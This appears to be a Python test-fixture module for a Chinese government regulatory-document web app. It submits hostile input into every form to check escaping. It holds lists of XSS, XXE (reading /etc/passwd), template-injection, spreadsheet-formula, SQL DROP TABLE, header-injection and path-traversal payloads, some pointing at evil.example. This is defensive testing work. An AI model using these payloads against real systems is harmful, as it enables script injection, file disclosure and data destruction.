"""Words that a stranger might type to make pages do something, typed into everything that can be typed.

Not a test itself: the tests of surfaces and the one in the browser both read what is laid down here.
"""

import re
from collections.abc import Iterable
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from html import unescape
from io import BytesIO
from typing import Any
from urllib.parse import quote

import docx
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from werkzeug.test import TestResponse

from base import clock, guarding
from base.config import Mailing
from base.staff.roles import Actor, Role
from base.staff.tables import Account, Unit
from base.staff.views import visiting
from interpretations.enquiries.tables import Enquiry
from interpretations.passing.tables import AskedBack, Recipient
from interpretations.rules.terms import Aspect, BlockKind
from registry.cleanup.tables import Campaign, ListRow, RollRow
from registry.drafting.tables import Draft
from registry.law.entering import BY_ID
from registry.tables import Document
from registry.watch.tables import Task

ORGAN = "澄江省生态环境厅"
# Of the small registry: in force, so that a clean-up may end it.
ENDING = "normative-document/2021/8"
# Seven times 191: no page says so unless somebody's words were computed.
COMPUTED = "1337"
MARKUP = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    '"><script src=https://evil.example/x.js></script>',
    "<img src=x onerror=alert(4)>",
    "<svg/onload=alert(5)>",
    "<svg><a xlink:href='javascript:alert(6)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<a href='javascript:alert(8)'>x</a>",
    "<a href=' java\tscript:alert(9)'>x</a>",
    "<form action=javascript:alert(10)><button>x</button></form>",
    "<math><mtext><style><img src onerror=alert(11)></style></math>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<object data='data:text/html,<script>alert(12)</script>'></object>",
    "<details open ontoggle=alert(13)>",
    "<input autofocus onfocus=alert(14)>",
    "<!--><script>alert(15)</script-->",
    "<template><script>alert(16)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(17)>'>",
)
ATTRIBUTES = (
    '" onmouseover="alert(18)',
    "' onfocus='alert(19)' autofocus='",
    "x onclick=alert(20)//",
    '\\"-alert(21)-\\"',
    "</script><script>alert(22)</script>",
    "--></script><svg onload=alert(23)>",
    "&lt;script&gt;alert(24)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(25)&#62;",
    "]]><script>alert(26)</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
)
ADDRESSES = (
    "javascript:alert(27)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=",
    "vbscript:msgbox(29)",
    "//evil.example/x",
    "[点我](javascript:alert(30))",
    "![图](https://evil.example/x.png)",
    "![图](data:image/svg+xml,<svg onload=alert(31)>)",
    "<javascript:alert(32)>",
    "[x]: javascript:alert(33)",
)
TEMPLATES = (
    "{{7*191}}",
    "{{config.items()}}",
    "{% print(7*191) %}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{''.__class__.__mro__}}",
    "%(secret)s %n %x",
)
FORMULAS = ('=cmd|" /C calc"!A0', "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.example")', "＝1+1")
TRICKS = (
    "\u202egnp.exe\u202c",
    "\u2066甲\u2069\u200b乙\ufeff",
    "'; DROP TABLE document; --",
    "BEGIN:VEVENT",
    "\\nATTACH:https://evil.example",
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *FORMULAS, *TRICKS)
# What no field takes, and no header may carry on.
REFUSED = ("甲\x00乙", "甲\x1b[31m乙", "甲\ufffe乙", "甲\x0b乙")
HEADER_WORDS = (
    "a\r\nSet-Cookie: stolen=1",
    "a\nX-Injected: 1",
    'a"; filename="b.exe',
    "../../etc/passwd",
    "a\x00.pdf",
)
HIDDEN = re.compile(r'<input type="hidden" name="([a-z_]+)" value="([^"]*)">')
CODE = re.compile(r'id="code"[^>]*>([0-9A-Z-]{19})<')
FINDING = re.compile(r'name="finding" value="([^"]*)"')


def packed(words: Iterable[str], longest: int) -> list[str]:
    """The words in as few pieces as a field of this length takes; what is longer than that is cut."""
    pieces = [""]
    for word in words:
        joined = f"{pieces[-1]} {word[:longest]}".strip()
        if len(joined) <= longest:
            pieces[-1] = joined
        else:
            pieces.append(word[:longest])
    return pieces


TITLES = packed(PAYLOADS, 330)
SHORT = packed(PAYLOADS, 100)
LONG = packed(PAYLOADS, 480)
ALL = " ".join(PAYLOADS)
# The forms of interpretations that have pages of their own kind.
EXPLAINED = ("text", "infographic", "response", "audio")


@dataclass
class Hand:
    """Somebody who types hostile words into every form; keeps every page that answered."""

    app: Flask
    answers: list[tuple[str, TestResponse]] = field(default_factory=list)
    turn: int = 0
    browser: FlaskClient | None = None
    interpretations: list[int] = field(default_factory=list)

    def client(self) -> FlaskClient:
        """One browser for all, so that what is said once on the next page is seen too."""
        self.browser = self.browser or FlaskClient(self.app)
        return self.browser

    def be(self, role: Role | None, account: int = 1, unit: int = 1) -> None:
        who = Actor(account, f"人{account}", SHORT[0][:60], role, unit, "水处", ORGAN)
        self.app.extensions["visitor"] = lambda: who if role else None
        self.app.config["WTF_CSRF_ENABLED"] = False

    def get(self, path: str) -> TestResponse:
        answer = self.client().get(path, buffered=True)
        self.answers.append((path, answer))
        return answer

    def post(
        self, path: str, form: dict[str, Any], wanted: Iterable[int] = (303,), **more: Any
    ) -> TestResponse:
        answer = self.client().post(path, data=form, buffered=True, **more)
        self.answers.append((path, answer))
        assert answer.status_code in set(wanted), f"{path}: {answer.status_code} {answer.text[:3000]}"
        return answer

    def words(self, pieces: list[str]) -> str:
        """The next piece, so that over all fields every payload has its turn."""
        self.turn += 1
        return pieces[self.turn % len(pieces)]

    def first(self, query: Any) -> Any:
        with self.app.extensions["database"].reading() as session:
            found = session.execute(query).first()
            return found[0] if found and len(found) == 1 else found

    def addresses(self) -> list[str]:
        """The addresses of every document."""
        with self.app.extensions["database"].reading() as session:
            return list(session.scalars(select(Document.address).order_by(Document.id)))


def people(app: Flask) -> None:
    """A unit and the accounts that act, all of them with names that want to run."""
    at = datetime(2026, 11, 20, tzinfo=UTC)
    stamp = {"password_hash": "", "password_set_at": at, "recorded_at": at, "recorded_by": ""}
    with app.extensions["database"].transaction() as session:
        session.add(Unit(organ=ORGAN, name=SHORT[1], kind="office"))
        session.add(Unit(organ=ORGAN, name=SHORT[2], kind="office"))
        # Documents are passed down to it.
        session.add(Unit(organ=SHORT[3], name=SHORT[4], kind="bureau"))
        session.flush()
        for key in range(1, 8):
            session.add(Account(id=key, name=f"人{key}", full_name=SHORT[key % len(SHORT)][:60], **stamp))


def text_of(pieces: Iterable[str]) -> str:
    """A text whose headings, articles, tables and links are hostile."""
    lines = ["第一章 总则"]
    for place, words in enumerate(pieces, 1):
        lines += [f"第{'一二三四五六七八九十'[(place - 1) % 10]}条 {words}", words, f"（一）{words}"]
    lines += [
        f"| 项目 | {LONG[0].replace('|', '')} |",
        "| --- | --- |",
        f"| {LONG[1].replace('|', '')} | 乙 |",
    ]
    lines += [f"# {SHORT[0]}", f"> {SHORT[1]}", f"* {SHORT[2]}", f"附件：{SHORT[3]}"]
    return "\n\n".join(lines)


def plan(hand: Hand, key: str) -> None:
    """Write the plan of a draft's explanation, all of its words hostile."""
    form = {
        "version": "0",
        "needed": "yes",
        "forms": ["text", "faq"],
        "points": "\n".join(PAYLOADS)[:5000],
        "due_on": "2026-12-31",
        "person": hand.words(SHORT)[:60],
        "joint_units": "2",
    }
    hand.post(f"/desk/plans/{key}", form)
    assert hand.get(f"/desk/plans/{key}").status_code == 200


def register(hand: Hand, place: int) -> str:
    """Enter, review and publish a document all of whose fields are hostile; gives its address."""
    hand.be(Role.DRAFTER, 1)
    form = {
        "title": f"办法{place} {TITLES[place % len(TITLES)]}",
        "kind": "normative_document",
        "issuers": f"{ORGAN}\n{SHORT[place % len(SHORT)].replace('、', '')}",
        "unit_id": "1",
        "document_number": f"澄环发〔2026〕{place + 60}号",
        "signed_on": "2026-11-20",
        "disclosure": "open",
        "summary": " ".join(LONG[place % len(LONG) :])[:1000],
        "source_url": "https://example.gov.cn/?q=javascript:alert(1)&amp;%22%3E%3Cscript%3E",
        "text": text_of(PAYLOADS),
        "token": f"{place:032d}",
    } | {f"why-{rule}": hand.words(SHORT) for rule in BY_ID}
    key = str(hand.post("/desk/drafts", form).location).rsplit("/", 1)[-1]
    desk = f"/desk/drafts/{key}"
    for _round in range(40):
        findings = FINDING.findall(hand.get(desk).text)
        if not findings:
            break
        for finding in findings:
            hand.post(f"{desk}/confirm", {"finding": unescape(finding), "reason": hand.words(LONG)})
    for page in ("edit", "preview", "versions/1"):
        assert hand.get(f"{desk}/{page}").status_code == 200, page
    plan(hand, key)
    hand.post(f"{desk}/submit", {"version": "1"})
    hand.be(Role.LEGAL_OFFICER, 2)
    hand.get(f"/desk/proposals/drafts/{key}")
    hand.post(f"{desk}/review", {"version": "1", "verdict": "pass", "opinion": ALL})
    hand.be(Role.PUBLISHER, 3)
    hand.post(f"{desk}/publish", {"version": "1"})
    found = hand.first(
        select(Document.address).join(Draft, Draft.document_id == Document.id).where(Draft.id == int(key))
    )
    assert found, hand.get(desk).text
    return str(found)


def upload(hand: Hand) -> None:
    """Begin drafts with files whose every part is hostile, under hostile names."""
    document, made = docx.Document(), BytesIO()
    document.core_properties.title, document.core_properties.author = SHORT[0], SHORT[1]
    for words in PAYLOADS:
        document.add_paragraph(words)
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = SHORT[2], SHORT[3]
    document.save(made)
    body = "".join(MARKUP)
    page = f"<title>{MARKUP[0]}</title><body onload=alert(1)>{body}<p>第一条 测试</p></body>"
    sent = (
        (f"{MARKUP[4]}.docx", made.getvalue()),
        (f"{MARKUP[13]}.html", page.encode()),
        ("办法\u202etxt.md", f"# {MARKUP[0]}\n\n{text_of(PAYLOADS)}".encode()),
        *((f"{words}.md", "# 办法\n\n第一条 测试。".encode()) for words in HEADER_WORDS),
    )
    for place, (name, content) in enumerate(sent):
        hand.be(Role.DRAFTER, 1)
        form = {"token": f"{place + 900:032d}", "source": (BytesIO(content), name)}
        begun = hand.post("/desk/drafts/from-file", form, content_type="multipart/form-data")
        place_of = str(begun.location).removesuffix("/edit")
        if place_of == "/desk/drafts/new":
            # A name that breaks its own header is no file.
            assert name.startswith(HEADER_WORDS), name
            continue
        hand.get(str(begun.location))
        hand.get(place_of)
        form = {"role": "attachment", "version": "1", "file": (BytesIO(content), name)}
        hand.post(f"{place_of}/files", form, content_type="multipart/form-data")
    hand.be(None)
    for name in (*HEADER_WORDS, *(words for words in PAYLOADS if "\n" not in words)):
        form = {"file": (BytesIO(b"anything"), f"{name}.pdf")}
        hand.post("/verify-file", form, {200, 422}, content_type="multipart/form-data")


def correct(hand: Hand, address: str) -> None:
    """Correct what is published, with hostile values and reasons."""
    key = hand.first(select(Document.id).where(Document.address == address))
    hand.be(Role.LEGAL_OFFICER, 2)
    place = f"/desk/drafts/documents/{key}"
    form = {"field": "summary", "value": ALL[:990], "note": hand.words(LONG)}
    hand.post(f"{place}/correct", form)
    hand.post(f"{place}/correct", form | {"field": MARKUP[0], "value": ALL[:990]}, {400, 422})
    hand.get(place)


def withdraw(hand: Hand, address: str) -> None:
    """Withdraw a document for a hostile reason."""
    key = hand.first(select(Document.id).where(Document.address == address))
    hand.be(Role.LEGAL_OFFICER, 2)
    hand.post(f"/desk/drafts/documents/{key}/withdraw", {"reason": hand.words(LONG)})


def marks(hand: Hand, address: str, deed: str, **more: str) -> None:
    """Mark a document by a hostile act on hostile evidence."""
    key = hand.first(select(Document.id).where(Document.address == address))
    hand.be(Role.LEGAL_OFFICER, 2)
    place = f"/desk/documents/{key}/mark/{deed}"
    form = {
        "on": "2026-11-23",
        "act_title": hand.words(TITLES),
        "act_number": hand.words(SHORT),
        "evidence": ALL[:1900],
        **more,
    }
    preview = hand.post(f"{place}/preview", form, {200}).text
    hand.post(f"{place}/again", form, {200})
    ticket = {name: unescape(value) for name, value in HIDDEN.findall(preview) if name in {"token", "known"}}
    hand.get(str(hand.post(place, form | ticket).location))
    if checking := hand.app.extensions.get("receipt"):
        checking.join(60)
    for page in ("", "/as-known", "/as-known.json", f"?q={deed}"):
        hand.get(f"/desk/documents/{key}{page}")


def clean_up(hand: Hand) -> None:
    """Run a clean-up whose every word is hostile, to its publication."""
    hand.be(Role.LEGAL_OFFICER, 2)
    form = {"title": TITLES[0][:200], "due_on": "2026-12-01", "kinds": "normative_document"}
    place = str(hand.post("/desk/cleanup/new", form).location)
    key = int(place.rsplit("/", 1)[-1])
    lines = "\n".join(
        f"{at}\t《{words}》\t澄环发〔2026〕6{at}号\t废止\t{words}" for at, words in enumerate(PAYLOADS)
    )
    brought = str(hand.post(f"{place}/lists", {"pasted": lines}).location)
    hand.get(brought)
    hand.get(f"{place}/lists")
    hand.be(Role.LEGAL_OFFICER, 2)
    leave_out(hand, key, brought)
    ending = hand.first(select(Document.id).where(Document.address == ENDING))
    for verdict, ground in (("keep", "needed"), ("lapse", "other")):
        rows = [one for one in rolled(hand, key) if (one.document_id == ending) is (verdict == "lapse")]
        more = {"replaced_by": hand.words(TITLES)} if verdict == "lapse" else {}
        picks = [f"{one.id}:{one.version}" for one in rows]
        form = {"pick": picks, "verdict": verdict, "ground": ground, "note": ALL[:1900], **more}
        hand.post(f"{place}/propose", form)
    back = [f"{one.id}:{one.version}" for one in rolled(hand, key)[:1]]
    hand.post(f"{place}/send-back", {"pick": back, "reason": hand.words(LONG)})
    # The first row once more, after it was sent back.
    picks = [f"{one.id}:{one.version}" for one in rolled(hand, key)]
    again = {"pick": picks[:1], "verdict": "keep", "ground": "other", "note": ALL[:1900]}
    hand.post(f"{place}/propose", again)
    hand.get(f"{place}/rows/{rolled(hand, key)[0].id}")
    hand.post(f"{place}/agree", {"pick": [f"{one.id}:{one.version}" for one in rolled(hand, key)]})
    form = {
        "title": f"清理公告 {TITLES[1][:180]}",
        "number": "澄环公告〔2026〕3号",
        "organ": ORGAN,
        "signed_on": "2026-11-20",
        "effective_on": "2026-12-23",
        "words": ALL[:3900],
        "amend_by": "2027-06-30",
    }
    hand.post(f"{place}/decision", form | {"version": version(hand, key)})
    hand.get(f"{place}/decision")
    hand.post(f"{place}/close", {"version": version(hand, key)})
    hand.be(Role.PUBLISHER, 3)
    hand.get(f"{place}/publish")
    hand.post(f"{place}/publish", {"version": version(hand, key), "token": "t" * 32, "checked": "1"})
    for page in ("", "/receipt", "/decision", "/decision.xlsx", "/decision.docx", "/decision.pdf"):
        hand.get(f"{place}{page}")


def leave_out(hand: Hand, key: int, brought: str) -> None:
    """Leave every row of a list out."""
    with hand.app.extensions["database"].reading() as session:
        rows = [(row.id, f"{row.stage}:{row.document_id or 0}") for row in session.scalars(select(ListRow))]
    for number, seen in rows:
        hand.post(f"{brought}/rows/{number}", {"seen": seen, "choice": "drop", "named": hand.words(SHORT)})


def version(hand: Hand, key: int) -> str:
    return str(hand.first(select(Campaign.version).where(Campaign.id == key)))


def rolled(hand: Hand, key: int) -> list[RollRow]:
    with hand.app.extensions["database"].reading() as session:
        rows = list(session.scalars(select(RollRow).where(RollRow.campaign_id == key).order_by(RollRow.id)))
        session.expunge_all()
        return rows


def tasks(hand: Hand) -> None:
    """Answer tasks and enter changes of laws elsewhere, in hostile words."""
    hand.be(Role.LEGAL_OFFICER, 2)
    form = {"title": hand.words(TITLES), "change": "ended", "on": "2026-11-20", "note": hand.words(LONG)}
    hand.post("/desk/tasks/outside", form)
    hand.get("/desk/tasks/outside")
    with hand.app.extensions["database"].reading() as session:
        running = session.scalars(select(Task.id).where(Task.state == "open").limit(3)).all()
    for number in running:
        hand.post(f"/desk/tasks/{number}", {"state": "waiting", "reason": hand.words(LONG)})
        hand.get(f"/desk/tasks/{number}")
    hand.get("/desk/tasks?state=all")


def administer(hand: Hand) -> None:
    """Make units and accounts with hostile names."""
    hand.be(Role.SYSTEM_ADMINISTRATOR, 4)
    for place, words in enumerate(SHORT):
        hand.post("/admin/units", {"organ": words, "name": f"{place}{words}", "kind": "office"})
        form = {"name": f"user{place}", "full_name": PAYLOADS[place][:60], "unit_id": "1", "email": ""}
        hand.post("/admin/accounts", form, {200})
    hand.post(
        "/admin/accounts", {"name": MARKUP[0], "full_name": SHORT[0][:60], "email": ADDRESSES[0]}, {422}
    )
    hand.be(Role.SECURITY_ADMINISTRATOR, 5)
    hand.post("/admin/roles/7", {"role": "drafter", "reason": SHORT[0]}, {303, 404})


def settled(hand: Hand, place: str) -> None:
    """Answer every finding of the check list of an interpretation, in hostile words."""
    for _round in range(40):
        findings = FINDING.findall(hand.get(place).text)
        if not findings:
            return
        for finding in findings:
            hand.post(f"{place}/confirm", {"finding": unescape(finding), "reason": hand.words(LONG)})


def written(hand: Hand, document: int, form: str, token: int) -> dict[str, Any]:
    """The form of an interpretation with blocks of every kind and aspect, all of whose words are hostile."""
    made = {
        "token": f"{token:032d}",
        "work": f"document-{document}",
        "form": form,
        "origin": "expert",
        "layout": "points",
        "last": "0",
        "title": f"解读{token} {hand.words(SHORT)}",
        "lead": hand.words(SHORT)[:60],
        "speaker": hand.words(SHORT),
        "contact": f"0571-00000000 {hand.words(SHORT)}",
        "credit": hand.words(SHORT),
        "source_url": "https://example.gov.cn/?q=javascript:alert(1)&amp;%3Cscript%3E",
        "media_url": "https://example.gov.cn/1.mp3?x=javascript:alert(1)",
        "transcript": "\n\n".join(PAYLOADS),
        "picture_text": ALL,
    }
    aspects, kinds = list(Aspect), list(BlockKind)
    for place in range(max(len(aspects), len(kinds))):
        block = f"b-{place}"
        made |= {
            f"{block}-kind": kinds[place % len(kinds)].value,
            f"{block}-aspect": aspects[place % len(aspects)].value,
            f"{block}-heading": hand.words(SHORT),
            f"{block}-words": "\n\n".join(PAYLOADS),
            f"{block}-aside": ALL,
            f"{block}-refs": "第一条",
        }
    return made


def explain(hand: Hand, address: str, form: str, token: int) -> int:
    """Write, submit, check, review and publish an interpretation; then revise it and give that up."""
    document = hand.first(select(Document.id).where(Document.address == address))
    hand.be(Role.DRAFTER, 1)
    hand.get(f"/desk/interpretations/new?work=document-{document}&form={form}&question={quote(MARKUP[0])}")
    typed = written(hand, document, form, token)
    hand.post("/desk/interpretations/preview", typed, {200})
    place = str(hand.post("/desk/interpretations/new", typed).location)
    hand.get(f"{place}/edit")
    hand.post(f"{place}/edit", {**typed, "version": "0", "title": TITLES[0][:200]}, {409})
    hand.post(f"{place}/merge", {**typed, "version": "1", "take": MARKUP[0]}, {200})
    settled(hand, place)
    hand.post(f"{place}/submit", {"version": "1"})
    hand.be(Role.LEGAL_OFFICER, 2)
    hand.post(f"{place}/check", {"version": "1", "verdict": "pass", "opinion": ALL})
    hand.be(Role.PUBLISHER, 3)
    hand.post(f"{place}/review", {"version": "1", "verdict": "pass", "opinion": ALL})
    hand.post(f"{place}/publish", {"version": "1"})
    key = int(place.rsplit("/", 1)[-1])
    assert hand.get(f"/interpretations/{key}").status_code == 200, hand.get(place).text
    hand.be(Role.DRAFTER, 1)
    hand.post(f"{place}/edit", {**typed, "version": "1", "lead": hand.words(SHORT)[:59]})
    hand.post(f"{place}/abandon", {"reason": hand.words(LONG)})
    for page in (place, f"{place}/versions/2", f"{place}/anchors", f"/desk/media/{key}"):
        assert hand.get(page).status_code == 200, page
    return key


def asked(hand: Hand, token: str, **more: str) -> tuple[int, str]:
    """Ask a hostile question; gives its id and code."""
    hand.be(None)
    with hand.app.app_context():
        secret = visiting.secret_key()
    second = str(int(clock.now().timestamp()) - 60)
    seal = guarding.keyed(secret, "stamp", token, second).hex()[:32]
    form = {"token": token, "begun": f"{second}.{seal}", "question": ALL, "title": hand.words(SHORT), **more}
    page = hand.post("/enquiries/new", form, {200}).text
    found = CODE.search(page)
    assert found, page
    return int(hand.first(select(func.max(Enquiry.id)))), found[1]


def step(hand: Hand, key: int, deed: str, **form: str) -> None:
    """One deed on an enquiry, as it stands."""
    seen = hand.first(select(Enquiry.version).where(Enquiry.id == key))
    hand.post(f"/desk/enquiries/{key}/{deed}", {"version": str(seen), **form})


def enquire(hand: Hand, address: str) -> int:
    """Ask, route, reply, ask again, add, and publish the question; hand another on, and refuse a third."""
    person = {"name": SHORT[0][:60], "contact": "0571-00000000"}
    key, code = asked(hand, "1" * 32, document=address, eid="art-1", **person)
    hand.post("/enquiries/new", {"question": ALL, "contact": ADDRESSES[0]}, {422})
    hand.be(Role.PUBLISHER, 3)
    if hand.first(select(Enquiry.unit_id).where(Enquiry.id == key)) != 1:
        step(hand, key, "route", unit_id="1")
    hand.be(Role.DRAFTER, 1)
    template = {"title": hand.words(SHORT), "words": ALL.translate({123: "", 125: ""})[:4900]}
    hand.post("/desk/enquiries/templates", template)
    hand.post("/desk/enquiries/templates", {"title": "占位", "words": "".join(TEMPLATES)}, {422})
    step(hand, key, "transfer", unit_id="2", reason=hand.words(LONG))
    hand.be(Role.DRAFTER, 1, 2)
    step(hand, key, "transfer", unit_id="1", reason=hand.words(LONG))
    hand.be(Role.DRAFTER, 1)
    step(hand, key, "draft", reply="草稿")
    step(hand, key, "reply", reply="\n\n".join(PAYLOADS))
    hand.be(None)
    hand.post("/enquiries/follow", {"code": code}, {200})
    hand.post("/enquiries/follow", {"code": MARKUP[0]}, {404})
    hand.post("/enquiries/follow/more", {"code": code, "question": ALL}, {200})
    hand.be(Role.DRAFTER, 1)
    step(hand, key, "add", more="\n\n".join(PAYLOADS))
    hand.get(f"/desk/enquiries/{key}/select")
    step(hand, key, "select", question=hand.words(LONG)[:390], answer="\n\n".join(PAYLOADS), confirmed="1")
    other, told = asked(hand, "2" * 32)
    third, _ = asked(hand, "3" * 32)
    fourth, last = asked(hand, "4" * 32)
    hand.be(Role.PUBLISHER, 3)
    hand.post("/desk/enquiries/templates/general", template)
    step(hand, other, "hand_off", channel="petition", words=ALL)
    step(hand, third, "refuse", refusal=hand.words(LONG))
    hand.be(None)
    hand.post("/enquiries/follow", {"code": told}, {200})
    hand.post("/enquiries/follow/take-back", {"code": last}, {200})
    hand.be(Role.PUBLISHER, 3)
    for page in ("", "/watch", "/templates", *(f"/{one}" for one in (key, other, third, fourth))):
        assert hand.get(f"/desk/enquiries{page}").status_code == 200, page
    return key


def pass_down(hand: Hand, address: str) -> None:
    """Send a document down with a hostile check; it is read, tried, told on, asked about and answered."""
    document = hand.first(select(Document.id).where(Document.address == address))
    hand.be(Role.DRAFTER, 1)
    form = {
        "token": "5" * 32,
        "document": str(document),
        "title": hand.words(SHORT),
        "note": ALL[:990],
        "due_on": "2026-12-01",
        "count": "1",
        "needed": "1",
        "question-1": hand.words(SHORT),
        "option-1-1": MARKUP[0],
        "option-1-2": MARKUP[4],
        "right-1-1": "1",
        "because-1": hand.words(LONG)[:490],
        "ref-1": "第一条",
        "unit": "3",
        "posts": "各单位：<img src=x onerror=alert(1)>、javascript:alert(2)",
    }
    hand.get(f"/desk/dispatches/new?document={document}")
    hand.post("/desk/dispatches", form | {"do": "add"}, {200})
    hand.post("/desk/dispatches", form | {"ref-1": MARKUP[0], "posts": ALL}, {422})
    place = str(hand.post("/desk/dispatches", form).location)
    key = hand.first(select(Recipient.id).order_by(Recipient.id).limit(1))
    hand.be(Role.DRAFTER, 7, 3)
    received = f"/desk/received/{key}"
    hand.get("/desk/received")
    hand.post(f"{received}/acknowledge", {})
    hand.get(received)
    hand.post(f"{received}/ask", {"question": ALL[:490]})
    for chosen in "12":
        tried = len(hand.first(select(Recipient.tries).where(Recipient.id == key)))
        hand.post(f"{received}/attempt", {"try": str(tried), "answer-1": chosen})
        hand.get(received)
    telling = {"told_on": "2026-11-23", "told_to": "12", "way": "meeting", "told_how": hand.words(SHORT)}
    hand.post(f"{received}/tell", telling)
    hand.be(Role.DRAFTER, 1)
    question = hand.first(select(AskedBack.id))
    hand.post(f"{place}/questions/{question}", {"answer": ALL[:490]})
    for page in (place, f"{place}/edit", "/desk/dispatches"):
        assert hand.get(page).status_code == 200, page


def duties(hand: Hand, address: str, other: str) -> None:
    """Delegate one explanation and waive another, by hostile acts and for hostile reasons."""
    document = hand.first(select(Document.id).where(Document.address == address))
    waived = hand.first(select(Document.id).where(Document.address == other))
    hand.be(Role.DRAFTER, 1)
    form = {"unit_id": "3", "capacity": "delegate", "act": hand.words(LONG)}
    hand.post(f"/desk/duties/{document}/delegate", form)
    hand.be(Role.PUBLISHER, 3)
    hand.be(Role.LEGAL_OFFICER, 2)
    hand.post(f"/desk/duties/{waived}/waive", {"reason": hand.words(LONG)})
    for page in ("", f"/{document}", f"/{waived}"):
        hand.get(f"/desk/duties{page}")
    hand.be(Role.PUBLISHER, 3)
    days = {
        "days": f"2027-01-01 休 {MARKUP[0]}",
        "source": hand.words(SHORT),
        "source_url": "",
        "confirmed": "1",
    }
    hand.post("/desk/holidays/2027", days | {"days": ALL}, {422})
    seen = re.search(r'name="seen" value="([^"]*)"', hand.get("/desk/holidays/2027").text)
    hand.post("/desk/holidays/2027", days | {"seen": seen[1] if seen else ""})
    hand.get("/desk/holidays/2027")


def follow(hand: Hand, address: str) -> None:
    """Follow a document under hostile addresses, which are refused, and one that is none."""
    document = hand.first(select(Document.id).where(Document.address == address))
    hand.be(None)
    hand.get(f"/follow?document={quote(address)}")
    for words in (*PAYLOADS, *HEADER_WORDS):
        form = {"email": words, "target": f"document-{document}"}
        hand.post("/follow", form, {422}, follow_redirects=False)
    hand.post("/follow", {"email": "reader@example.cn", "target": MARKUP[0]}, {422})
    hand.post("/follow", {"email": "reader@example.cn", "target": f"document-{document}"})
    hand.be(Role.PUBLISHER, 3)
    hand.get("/desk/mail")


def everything(app: Flask) -> Hand:
    """Type hostile words into every form there is; gives the hand with every answer on the way."""
    hand = Hand(app)
    # Letters are written, and sent by nothing here.
    app.extensions["config"] = replace(app.extensions["config"], mailing=Mailing(host="127.0.0.1", port=1))
    people(app)
    administer(hand)
    addresses = [register(hand, place) for place in range(len(TITLES))]
    upload(hand)
    correct(hand, addresses[0])
    hand.interpretations = [explain(hand, addresses[0], form, at + 1) for at, form in enumerate(EXPLAINED)]
    enquire(hand, addresses[0])
    pass_down(hand, addresses[0])
    duties(hand, addresses[0], addresses[2])
    follow(hand, addresses[0])
    withdraw(hand, addresses[1])
    marks(hand, addresses[2], "repeal", scope="whole", successor_title=TITLES[0], successor_number=SHORT[0])
    marks(hand, addresses[3], "suspend", scope="whole", area=SHORT[0])
    clean_up(hand)
    tasks(hand)
    return hand
